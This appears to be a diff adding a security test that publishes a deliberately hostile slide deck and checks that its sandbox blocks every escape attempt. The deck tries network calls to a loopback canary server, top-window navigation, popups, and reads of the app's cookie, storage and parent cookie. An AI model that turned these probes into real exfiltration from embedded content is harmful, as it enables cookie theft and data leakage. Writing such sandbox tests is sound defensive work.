@@ -1,0 +1,136 @@
+import http from "node:http";
+import type { AddressInfo } from "node:net";
+import { eq } from "drizzle-orm";
+import type { Browser } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { decks } from "@/lib/db/schema/decks";
+import { setDeckContent } from "@/lib/decks/set-deck-content";
+import type { Database } from "@/lib/db/client";
+import { call, createUser, type TestUser } from "../helpers/api";
+import { type AppServer, startAppServer } from "../helpers/app-server";
+import { launchBrowser } from "../helpers/browser";
+import { setUpTestDatabase } from "../helpers/database";
+
+// A published deck that tries every way out of its sandbox, against a canary server on loopback.
+
+let database: Database;
+let server: AppServer;
+let browser: Browser;
+let author: TestUser;
+let canary: http.Server;
+let canaryOrigin: string;
+const canaryHits: string[] = [];
+
+beforeAll(async () => {
+  database = await setUpTestDatabase();
+  server = await startAppServer();
+  process.env.APP_URL = server.origin;
+  browser = await launchBrowser();
+  author = await createUser();
+  canary = http.createServer((req, res) => {
+    canaryHits.push(`${req.method} ${req.url}`);
+    res.writeHead(200, { "Access-Control-Allow-Origin": "*" });
+    res.end("ok");
+  });
+  canary.on("upgrade", (req, socket) => {
+    canaryHits.push(`UPGRADE ${req.url}`);
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
+  canaryOrigin = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
+}, 120_000);
+
+afterAll(async () => {
+  await browser?.close();
+  await server?.close();
+  await new Promise((resolve) => canary?.close(resolve));
+});
+
+function escapingDeck(target: string): string {
+  const ws = target.replace(/^http/, "ws");
+  return `import { Deck, Slide, Heading, Text } from "@deckhand/player";
+
+const results: Record<string, string> = {};
+function attempt(name: string, action: () => unknown) {
+  try {
+    const value = action();
+    results[name] = "allowed:" + String(value ?? "");
+  } catch (error) {
+    results[name] = "threw:" + (error instanceof Error ? error.name : String(error));
+  }
+}
+
+attempt("fetch", () => { void fetch("${target}/fetch").then(() => { results.fetchResolved = "yes"; }, () => {}); });
+attempt("xhr", () => { const xhr = new XMLHttpRequest(); xhr.open("GET", "${target}/xhr"); xhr.send(); });
+attempt("websocket", () => { new WebSocket("${ws}/ws"); });
+attempt("beacon", () => navigator.sendBeacon("${target}/beacon", "data"));
+attempt("image", () => { const img = new Image(); img.src = "${target}/image"; document.body.appendChild(img); });
+attempt("cookie", () => document.cookie);
+attempt("localStorage", () => { localStorage.setItem("k", "v"); return localStorage.getItem("k"); });
+attempt("sessionStorage", () => sessionStorage.getItem("k"));
+attempt("topLocation", () => { (window.top as Window).location.href = "${target}/top"; });
+attempt("parentCookie", () => (window.parent as Window).document.cookie);
+attempt("windowOpen", () => window.open("${target}/open"));
+attempt("stylesheet", () => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = "${target}/style.css"; document.head.appendChild(link); });
+attempt("prefetch", () => { const link = document.createElement("link"); link.rel = "prefetch"; link.href = "${target}/prefetch"; document.head.appendChild(link); });
+attempt("script", () => { const script = document.createElement("script"); script.src = "${target}/script.js"; document.head.appendChild(script); });
+attempt("frame", () => { const frame = document.createElement("iframe"); frame.src = "${target}/frame"; document.body.appendChild(frame); });
+attempt("eventSource", () => { new EventSource("${target}/events"); });
+attempt("worker", () => { new Worker("${target}/worker.js"); });
+
+export default function Escape() {
+  return (
+    <Deck>
+      <Slide label="Escape">
+        <Heading>Trying to get out</Heading>
+        <img src="${target}/jsx-image" alt="" />
+        <div style={{ backgroundImage: "url(${target}/css-background)", width: 10, height: 10 }} />
+        <Text><span id="results">{JSON.stringify(results)}</span></Text>
+      </Slide>
+    </Deck>
+  );
+}
+`;
+}
+
+describe("the deck sandbox", () => {
+  it("lets no request reach another host, keeps the top page in place and the app's cookies unreadable", async () => {
+    const [row] = await database.db
+      .insert(decks)
+      .values({ organizationId: author.organizationId, ownerId: author.userId, title: "Escape" })
+      .returning();
+    const ctx = {
+      db: database.db,
+      caller: { userId: author.userId, organizationId: author.organizationId, apiKeyId: null },
+    };
+    await setDeckContent(ctx, row!.id, { source: escapingDeck(canaryOrigin) });
+    await call("PATCH", `/decks/${row!.id}`, { key: author.key, body: { visibility: "public" } });
+    const [deck] = await database.db.select().from(decks).where(eq(decks.id, row!.id));
+
+    const context = await browser.newContext();
+    await context.addCookies([{ name: "session", value: "app-secret-cookie", url: server.origin }]);
+    const page = await context.newPage();
+    const popups: string[] = [];
+    context.on("page", (popup) => popups.push(popup.url()));
+    const viewerUrl = `${server.origin}/d/${deck!.publicSlug}`;
+    await page.goto(viewerUrl);
+    const frame = await (await page.waitForSelector("#dh-frame")).contentFrame();
+    await frame!.waitForFunction(() => document.documentElement.dataset.ready === "true");
+    const results = JSON.parse(await frame!.locator("#results").innerText()) as Record<string, string>;
+
+    // Give anything that slipped out time to arrive.
+    await new Promise((resolve) => setTimeout(resolve, 1500));
+    expect(canaryHits).toEqual([]);
+    expect(page.url().replace(/#\d+$/, "")).toBe(viewerUrl);
+    expect(popups.filter((url) => url.startsWith(canaryOrigin))).toEqual([]);
+    expect(context.pages()).toHaveLength(1);
+
+    expect(JSON.stringify(results)).not.toContain("app-secret-cookie");
+    expect(results.cookie).toMatch(/^threw:SecurityError|^allowed:$/);
+    expect(results.localStorage).toMatch(/^threw:SecurityError/);
+    expect(results.parentCookie).toMatch(/^threw:SecurityError/);
+    expect(results.fetchResolved).toBeUndefined();
+    expect(await frame!.evaluate(() => window.origin)).toBe("null");
+    await context.close();
+  });
+});
